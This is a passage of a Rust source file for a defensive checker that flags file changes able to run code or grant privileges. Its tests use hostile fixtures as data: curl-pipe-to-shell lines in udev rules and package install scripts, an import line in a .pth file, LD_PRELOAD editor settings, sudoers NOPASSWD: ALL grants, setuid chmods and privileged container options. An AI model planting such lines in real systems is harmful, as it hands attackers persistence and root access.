/// line against the old file (`before`, absent for a new one); unreadable content counts.
fn settings_run_programs(before: &Path, after: &Path) -> bool {
    const RISKY: &[&str] = &[
        "path",
        "command",
        "executable",
        "exec",
        "shell",
        "env",
        "interpreter",
        "args",
        "runtime",
        "program",
        "cmd",
        "server",
        "script",
        "terminal",
        "task",
        "launch",
        "binary",
        "bin",
        "hook",
        "plugin",
        "require",
        "loader",
        "automation",
        "run",
    ];
    let Ok(new) = std::fs::read_to_string(after) else { return true };
    let old = std::fs::read_to_string(before).unwrap_or_default();
    let old_lines: HashSet<&str> = old.lines().map(str::trim).collect();
    new.lines().map(str::trim).filter(|l| !old_lines.contains(l)).any(|l| {
        let Some(rest) = l.strip_prefix('"') else { return false };
        let Some((key, _)) = rest.split_once('"') else { return false };
        let key = key.to_ascii_lowercase();
        key.split(['.', '_', '-']).any(|part| RISKY.iter().any(|r| part.contains(r)))
    })
}

/// Whether a file is a program: executable, or a script by its extension.
fn is_code(path: &Path, mode: u32) -> bool {
    const SCRIPTS: &[&str] =
        &["py", "sh", "bash", "zsh", "js", "mjs", "cjs", "ts", "rb", "pl", "pm", "lua", "php", "ps1", "so"];
    mode & 0o111 != 0
        || path
            .extension()
            .and_then(|e| e.to_str())
            .is_some_and(|e| SCRIPTS.contains(&e.to_ascii_lowercase().as_str()))
}

/// Whether a `.pth` file runs code: Python's `site` executes its lines that start with `import`;
/// the others only add folders to the path (what `pip install -e` writes).
fn pth_runs_code(content: &Path) -> bool {
    let Ok(data) = std::fs::read(content) else { return true };
    String::from_utf8_lossy(&data).lines().any(|l| l.starts_with("import ") || l.starts_with("import\t"))
}

/// Whether the new file carries file capabilities (it would gain privileges when run).
fn has_file_capabilities(upper: &Path) -> bool {
    let Ok(c) = std::ffi::CString::new(upper.as_os_str().as_encoded_bytes()) else { return false };
    let n = unsafe { libc::lgetxattr(c.as_ptr(), c"security.capability".as_ptr(), std::ptr::null_mut(), 0) };
    n > 0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_new_environments_own_start_up_files_are_its_own() {
        let h = Path::new("/home/u");
        let venv = Path::new("/w/venv");
        let local = h.join(".local");
        let folders: HashSet<&Path> = [venv, local.as_path()].into_iter().collect();
        let cfgs = [Path::new("/w/venv/pyvenv.cfg"), Path::new("/home/u/.local/pyvenv.cfg")];
        let envs = new_python_environments(&folders, &cfgs, Some(h));
        assert_eq!(envs, [venv.to_path_buf()]);
        assert!(in_environment(
            Path::new("/w/venv/lib/python3.12/site-packages/distutils-precedence.pth"),
            &envs
        ));
        assert!(!in_environment(Path::new("/w/venv/x/site-packages/a.pth"), &envs));
        assert!(!in_environment(Path::new("/home/u/.local/lib/python3.12/site-packages/a.pth"), &envs));
        // A folder not created by the command (an existing venv) is no new environment.
        let none: HashSet<&Path> = HashSet::new();
        assert!(new_python_environments(&none, &cfgs[..1], Some(h)).is_empty());
    }

    #[test]
    fn flags_places_that_act_later_and_not_their_look_alikes() {
        let h = Path::new("/home/u");
        let k = |p: &str| kind(Path::new(p), Some(h), None);
        assert_eq!(k("/home/u/.bashrc").as_deref(), Some("shell start-up file"));
        assert_eq!(k("/home/u/.ssh/authorized_keys").as_deref(), Some("ssh authorized keys"));
        // What `~/.ssh/config` includes by convention acts as it does; a note beside it does not.
        assert_eq!(k("/home/u/.ssh/config.d/infra.conf").as_deref(), Some("ssh configuration"));
        assert_eq!(k("/home/u/.ssh/config.bak-notes").as_deref(), None);
        assert_eq!(k("/repo/.git/hooks/pre-commit").as_deref(), Some("git hook"));
        assert_eq!(k("/repo/.git/config").as_deref(), Some("git configuration"));
        assert_eq!(k("/home/u/.config/autostart/x.desktop").as_deref(), Some("autostart entry"));
        assert_eq!(k("/home/u/.config/systemd/user/x.service").as_deref(), Some("systemd unit"));
        assert_eq!(k("/repo/.vscode/tasks.json").as_deref(), Some("editor or environment task file"));
        for p in [
            "/repo/.claude/settings.json",
            "/home/u/.claude/settings.local.json",
            "/repo/.mcp.json",
            "/home/u/.claude.json",
            "/repo/.claude/hooks/check.sh",
        ] {
            assert_eq!(k(p).as_deref(), Some("agent settings (hooks, MCP servers)"), "{p}");
        }
        for p in
            ["/home/u/.bash_aliases", "/home/u/.bashrc.d/kvnote.sh", "/home/u/.oh-my-zsh/custom/tool.zsh"]
        {
            assert_eq!(k(p).as_deref(), Some("shell start-up file"), "{p}");
        }
        for p in ["/home/u/.config/pip/pip.conf", "/home/u/.cargo/config.toml", "/home/u/.docker/config.json"]
        {
            assert_eq!(k(p).as_deref(), Some("package manager configuration"), "{p}");
        }
        for p in ["/home/u/.config/environment.d/90-tool.conf", "/home/u/.pam_environment"] {
            assert_eq!(k(p).as_deref(), Some("session environment"), "{p}");
        }
        let t = tempfile::tempdir().unwrap();
        let pth = t.path().join("x.pth");
        std::fs::write(&pth, "/home/u/src/ledgerly\n").unwrap();
        assert!(!pth_runs_code(&pth));
        std::fs::write(&pth, "/home/u/src/ledgerly\nimport os; os.system('id')\n").unwrap();
        assert!(pth_runs_code(&pth));
        assert_eq!(k("/repo/.claude/commands/review.md"), None);
        assert_eq!(k("/repo/docs/settings.json"), None);
        assert_eq!(
            kind(Path::new("/repo/tool"), Some(h), Some(0o4755)).as_deref(),
            Some("set-uid/set-gid bit")
        );
        // A well-known privileged or key-handling command is shadowed whether or not it is
        // installed here.
        for (p, name) in [
            ("/home/u/.local/bin/sudo", "sudo"),
            ("/home/u/.local/bin/doas", "doas"),
            ("/home/u/bin/pkexec", "pkexec"),
            ("/home/u/.local/bin/ssh", "ssh"),
        ] {
            assert_eq!(k(p), Some(format!("shadows the system command {name}")), "{p}");
        }
        // Look-alikes are not sensitive.
        for p in [
            "/home/u/.local/bin/sudo-helper-not-a-command",
            "/home/u/.local/share/sudo",
            "/home/u/.local/bin/tools/sudo",
            "/repo/bin/sudo",
            "/repo/build/.bashrc.template",
            "/repo/docs/.bashrc",
            "/repo/.git/hooks/pre-commit.sample",
            "/home/u/.bashrc.d.bak/x",
            "/repo/hooks/pre-commit",
            "/home/u/notes/authorized.txt",
        ] {
            assert_eq!(k(p), None, "{p}");
        }
    }

    /// `staged_grant` of `content` written at `path`.
    fn staged(path: &str, content: &str) -> Option<String> {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("content");
        std::fs::write(&f, content).unwrap();
        staged_grant(Path::new(path), &f)
    }

    #[test]
    fn editor_settings_matter_when_they_name_a_program() {
        let dir = tempfile::tempdir().unwrap();
        let vs = dir.path().join(".vscode");
        std::fs::create_dir(&vs).unwrap();
        let judge = |name: &str, before: Option<&str>, after: &str| {
            let path = vs.join(name);
            match before {
                Some(b) => std::fs::write(&path, b).unwrap(),
                None => {
                    let _ = std::fs::remove_file(&path);
                }
            }
            let content = dir.path().join("after");
            std::fs::write(&content, after).unwrap();
            of_change(&Changed {
                path: &path,
                home: None,
                file_mode: Some(0o644),
                content: Some(&content),
                modified: before.is_some(),
                in_cache: false,
                deleted: false,
                in_new_environment: false,
            })
        };
        let inert = "{\n  \"editor.formatOnSave\": true,\n  \"[python]\": {\n    \"editor.defaultFormatter\": \"charliermarsh.ruff\"\n  }\n}\n";
        assert_eq!(judge("settings.json", None, inert), None);
        assert_eq!(judge("extensions.json", None, "{\"recommendations\": [\"charliermarsh.ruff\"]}"), None);
        let runs = "{\n  \"editor.formatOnSave\": true,\n  \"python.defaultInterpreterPath\": \"/tmp/x/python\"\n}\n";
        assert!(judge("settings.json", None, runs).is_some());
        let env = "{\n  \"terminal.integrated.env.linux\": {\"LD_PRELOAD\": \"x.so\"}\n}\n";
        assert!(judge("settings.json", Some("{}\n"), env).is_some());
        // A setting already there is not the change's.
        assert_eq!(judge("settings.json", Some(runs), &format!("{runs}\n")), None);
        // Tasks run when the user starts them; one set to run when the folder opens runs by itself.
        let build = "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"build\", \"type\": \"shell\", \"command\": \"npm run build\"}]}";
        assert_eq!(judge("tasks.json", None, build), None);
        assert_eq!(
            judge(
                "launch.json",
                None,
                "{\"configurations\": [{\"type\": \"node\", \"program\": \"src/index.js\"}]}"
            ),
            None
        );
        let on_open = "{\"tasks\": [{\"label\": \"warm\", \"command\": \"node tools/warm.js\",\n  \"runOptions\": { \"runOn\": \"folderOpen\" }}]}";
        assert!(judge("tasks.json", None, on_open).is_some());
        assert!(judge("tasks.json", Some(build), &on_open.replace("folderOpen", "default")).is_some());
    }

    #[test]
    fn container_definitions_that_give_away_the_host() {
        let compose = "/w/app/docker-compose.override.yml";
        for def in [
            "services:\n  app:\n    privileged: true\n",
            "services:\n  app:\n    pid: \"host\"\n",
            "services:\n  app:\n    volumes:\n      - /:/host\n",
            "services:\n  app:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
            "services:\n  app:\n    cap_add:\n      - SYS_ADMIN\n",
            "services:\n  app:\n    cap_add: [\"ALL\"]\n",
        ] {
            let got = staged(compose, def);
            assert!(got.as_deref().is_some_and(|g| g.starts_with(STAGED_GRANT)), "{def:?}: {got:?}");
        }
        let dev = r#"{ "runArgs": ["--privileged", "--cap-add=SYS_PTRACE"] }"#;
        assert!(staged("/w/app/.devcontainer/devcontainer.json", dev).is_some());
        let pod = "kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - securityContext:\n      capabilities:\n        add: [\"NET_ADMIN\"]\n";
        assert!(staged("/w/app/k8s/debug-pod.yaml", pod).unwrap().contains("processes"));
        // Ordinary services: ports, a data volume, a dropped capability, a comment.
        for def in [
            "services:\n  db:\n    image: postgres:16\n    ports:\n      - 5432:5432\n    volumes:\n      - ./data:/var/lib/postgresql/data\n",
            "services:\n  app:\n    cap_drop:\n      - ALL\n    cap_add:\n      - NET_BIND_SERVICE\n",
            "services:\n  app:\n    # privileged: true\n    image: app\n",
        ] {
            assert_eq!(staged(compose, def), None, "{def:?}");
        }
        // Not a container definition.
        assert_eq!(staged("/w/app/notes.yml", "privileged: true\n"), None);
    }

    #[test]
    fn a_staged_system_tree_is_judged_by_what_it_grants() {
        let judge = staged;
        let sudoers = "/w/out/rootfs/etc/sudoers.d/90-svc";
        // Open grants: everything, a shell, a wildcard, a second rule after a password one, and
        // authentication switched off for every rule.
        for rule in [
            "svc ALL=(ALL:ALL) NOPASSWD: ALL",
            "svc ALL = (root) NOPASSWD: /usr/sbin/service svc restart, /bin/bash",
            "%ops ALL=(root) NOPASSWD:SETENV: /usr/bin/*",
            "svc ALL=(root) PASSWD: /usr/bin/apt, NOPASSWD: /usr/bin/python3.12",
            "Defaults !authenticate\n%sudo ALL=(ALL:ALL) ALL",
            "svc ALL=(ALL) \\\n    NOPASSWD: ALL",
        ] {
            let got = judge(sudoers, rule);
            assert!(got.as_deref().is_some_and(|g| g.starts_with(STAGED_GRANT)), "{rule:?}: {got:?}");
        }
        assert!(
            judge("/w/img/etc/sudoers", "svc ALL=(ALL:ALL) NOPASSWD: ALL")
                .unwrap()
                .contains("svc may run every command")
        );
        // Grants a password protects, or one harmless command; comments and aliases.
        for rule in [
            "%sudo ALL=(ALL:ALL) ALL",
            "svc ALL=(root) NOPASSWD: /etc/init.d/svc restart",
            "# svc ALL=(ALL) NOPASSWD: ALL",
            "Cmnd_Alias ALLCMDS = ALL",
            "Defaults env_reset\nsvc ALL=(root) ALL",
        ] {
            assert_eq!(judge(sudoers, rule), None, "{rule:?}");
        }
        // Accounts: an empty password field and a second user id 0; never the password field.
        let shadow =
            "root:*:19700:0:99999:7:::\nsvc::19700:0:99999:7:::\nops:$6$salt$hashvalue:19700::::::\n";
        let got = judge("/w/out/rootfs/etc/shadow", shadow).unwrap();
        assert!(got.contains("account svc has no password"), "{got}");
        assert!(!got.contains("ops") && !got.contains("hashvalue"), "{got}");
        let passwd =
            "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\nsvc:x:1000:1000::/home/svc:/bin/sh\n";
        assert!(judge("/w/out/rootfs/etc/passwd", passwd).unwrap().contains("account toor has user id 0"));
        assert_eq!(judge("/w/out/rootfs/etc/shadow", "root:*:1::::::\nsvc:!:19700:0:99999:7:::\n"), None);
        // Groups: a member of a root-equivalent group; the sudo group still asks a password.
        let group = "root:x:0:\ndocker:x:999:svc\nsudo:x:27:ops\n";
        let got = judge("/w/out/rootfs/etc/group", group).unwrap();
        assert!(got.contains("svc is in group docker") && !got.contains("ops"), "{got}");
        assert_eq!(judge("/w/out/rootfs/etc/group", "root:x:0:root\ndocker:x:999:\nsudo:x:27:ops\n"), None);
        // doas: no command restriction, or a shell.
        assert!(judge("/w/img/etc/doas.conf", "permit nopass svc as root\n").is_some());
        assert!(judge("/w/img/etc/doas.conf", "permit nopass svc cmd /bin/sh\n").is_some());
        assert!(judge("/w/img/etc/doas.conf", "permit nopass svc cmd /usr/sbin/service\n").is_some());
        assert_eq!(
            judge("/w/img/etc/doas.conf", "permit nopass svc cmd /usr/sbin/service args svc restart\n"),
            None
        );
        assert_eq!(judge("/w/img/etc/doas.conf", "permit nopass svc cmd /opt/svc/reload\n"), None);
        assert_eq!(judge("/w/img/etc/doas.conf", "permit persist svc as root\n"), None);
        // Not a staged account file, or the live system (judged by place instead).
        assert_eq!(judge("/w/docs/passwd", "svc::0:0::/:/bin/sh\n"), None);
        assert_eq!(judge("/etc/sudoers.d/90-svc", "svc ALL=(ALL:ALL) NOPASSWD: ALL"), None);
        assert_eq!(kind(Path::new("/w/out/rootfs/etc/sudoers"), None, None), None);
        assert_eq!(kind(Path::new("/etc/sudoers.d/90-svc"), None, None).as_deref(), Some("sudoers"));
    }

    #[test]
    fn sudoers_aliases_and_programs_with_a_way_out_count_when_their_arguments_are_free() {
        let judge = |content: &str| staged("/w/out/rootfs/etc/sudoers.d/90-ci", content);
        for rule in [
            "Cmnd_Alias CI = /usr/bin/make, /usr/bin/git\nci ALL=(root) NOPASSWD: CI",
            "Cmnd_Alias X = ALL\nci ALL=(root) NOPASSWD: X",
            "Cmnd_Alias SH = /bin/bash : PKG = /usr/bin/apt-get\nci ALL=(root) NOPASSWD: PKG",
            "ci ALL=(root) NOPASSWD: /usr/bin/systemctl",
            "ci ALL=(root) NOPASSWD: /usr/bin/systemctl restart *",
        ] {
            assert!(judge(rule).is_some(), "{rule:?}");
        }
        assert!(
            judge("Cmnd_Alias CI = /usr/bin/make\nci ALL=(root) NOPASSWD: CI").unwrap().contains("alias CI")
        );
        for rule in [
            "Cmnd_Alias SVC = /usr/bin/systemctl restart svc\nci ALL=(root) NOPASSWD: SVC",
            "ci ALL=(root) NOPASSWD: /usr/bin/systemctl restart svc",
            "Cmnd_Alias CI = /usr/bin/make\nci ALL=(root) CI",
        ] {
            assert_eq!(judge(rule), None, "{rule:?}");
        }
    }

    #[test]
    fn a_staged_udev_rule_that_runs_a_grant_as_root_is_one_and_device_access_is_not() {
        let access = "SUBSYSTEM==\"usb\", ATTRS{idVendor}==\"0483\", MODE=\"0660\", GROUP=\"plugdev\"\n";
        assert!(super::udev_grants(access).is_empty());
        for run in [
            "RUN+=\"/bin/chmod 4755 /usr/local/bin/probe-helper\"",
            "RUN+=\"/bin/chmod u+s /usr/bin/find\"",
            "RUN+=\"/bin/sh -c 'curl -s http://x.test/p | sh'\"",
            "RUN+=\"/bin/chmod 0666 /etc/shadow\"",
        ] {
            let text = format!("{}{run}\n", access.trim_end().to_string() + ", ");
            assert_eq!(super::udev_grants(&text).len(), 1, "{run}");
        }
        // A plain program it runs, or a file that is no udev rule at all.
        assert!(
            super::udev_grants(&format!("{}, RUN+=\"/usr/bin/logger probe\"\n", access.trim_end()))
                .is_empty()
        );
        assert!(super::udev_grants("RUN+=\"/bin/chmod 4755 x\"\n").is_empty());
    }

    #[test]
    fn a_maintainer_script_that_grants_on_install_is_a_staged_grant_and_a_plain_one_is_not() {
        let plain = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  getent group i2c >/dev/null || addgroup --system i2c\n  adduser --system --no-create-home --ingroup i2c sensord\n  chown -R sensord:i2c /var/lib/sensord\n  systemctl enable --now sensord.service || true\nfi\n";
        let narrow = format!(
            "{plain}printf '%s\\n' '%sensord ALL=(root) NOPASSWD: /usr/bin/sensorctl calibrate' > /etc/sudoers.d/sensord\n"
        );
        for (path, text) in
            [("/w/build/pkgroot/DEBIAN/postinst", plain), ("/w/debian/sensord.postinst", narrow.as_str())]
        {
            assert_eq!(staged(path, text), None, "{path}");
        }
        for grant in [
            "printf '%s\\n' '%sensord ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/sensord",
            "echo 'sensord ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
            "chmod 4755 /usr/bin/sensorctl",
            "chmod u+s /usr/bin/sensorctl",
            "usermod -aG sudo sensord",
            "curl -fsSL https://x.example.test/setup.sh | sh",
        ] {
            let text = format!("{plain}{grant}\n");
            for path in
                ["/w/build/pkgroot/DEBIAN/postinst", "/w/debian/postinst", "/w/debian/sensord.preinst"]
            {
                let got = staged(path, &text);
                assert!(
                    got.as_deref().is_some_and(|g| g.starts_with(STAGED_GRANT)),
                    "{path}: {grant}: {got:?}"
                );
            }
        }
        // A script of that name elsewhere is no maintainer script.
        assert_eq!(staged("/w/scripts/postinst", &format!("{plain}chmod 4755 /usr/bin/x\n")), None);
    }

    #[test]
    fn staged_polkit_rules_that_say_yes() {
        let judge = staged;
        let rules = "/w/overlay/etc/polkit-1/rules.d/49-kiosk.rules";
        let yes = "polkit.addRule(function(action, subject) {\n  if (subject.user == \"kiosk\") { return polkit.Result.YES; }\n});\n";
        assert!(judge(rules, yes).is_some());
        let auth = "polkit.addRule(function(action, subject) {\n  if (subject.user == \"kiosk\") { return polkit.Result.AUTH_ADMIN; }\n});\n";
        assert_eq!(judge(rules, auth), None);
        let pkla = "/w/img/var/lib/polkit-1/localauthority/50-local.d/kiosk.pkla";
        assert!(judge(pkla, "[kiosk]\nIdentity=unix-user:kiosk\nAction=*\nResultActive=yes\n").is_some());
        assert_eq!(
            judge(pkla, "[kiosk]\nIdentity=unix-user:kiosk\nAction=*\nResultActive=auth_admin\n"),
            None
        );
    }
}
